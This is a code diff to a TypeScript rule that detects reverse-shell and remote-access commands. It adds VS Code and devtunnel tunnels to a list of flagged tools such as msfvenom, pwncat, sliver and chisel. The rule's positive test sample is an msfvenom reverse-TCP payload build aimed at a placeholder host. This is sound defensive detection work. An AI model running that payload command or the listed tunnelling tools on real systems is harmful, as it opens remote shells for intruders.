@@ -172,14 +172,16 @@ export const reverseShellRules: readonly CommandRule[] = [
     type,
     severity: 'high',
     sees: 'a terminal or program shown on another machine, or a payload made for one',
-    programs: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'villain', 'weevely', 'pwncat-cs', 'sliver-server', 'evil-winrm', 'gsocket', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo-agent', 'merlinagent'],
-    literals: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'weevely', 'pwncat', 'sliver', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo'],
+    programs: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'villain', 'weevely', 'pwncat-cs', 'sliver-server', 'evil-winrm', 'gsocket', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo-agent', 'merlinagent', 'code', 'code-insiders', 'code-tunnel', 'devtunnel'],
+    literals: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'weevely', 'pwncat', 'sliver', 'gs-netcat', 'ttyd', 'gotty', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo', 'code tunnel', 'code-tunnel', 'code-insiders tunnel', 'devtunnel'],
     positive: bash('msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.4 LPORT=4444 -f elf -o shell.elf'),
     nearMiss: bash('TERM=xterm ls; xterm -e top; chisel --help'),
     source: 'MITRE ATT&CK T1219',
     holds: ({ name }, words) => {
       const text = lineOf(words);
       if (words.length === 0 || /^-{1,2}(?:help|version|h|v)$/.test(text)) return name === 'gs-netcat';
+      if (name === 'code' || name === 'code-insiders') return /^tunnel\b(?!.*\b(?:status|unregister|kill|prune)\b)/.test(text);
+      if (name === 'devtunnel') return /^host\b.*(?:--allow-anonymous|-a\b)/.test(text);
       if (name === 'xterm') return /-display \S*:\d/.test(text) && !/-display (?:localhost|127\.0\.0\.1)?:\d/.test(text);
       if (name === 'msfvenom') return /(?:^| )(?:-p|--payload)/.test(text);
       if (name === 'chisel') return /^client\b/.test(text) && /\bR:/.test(text);
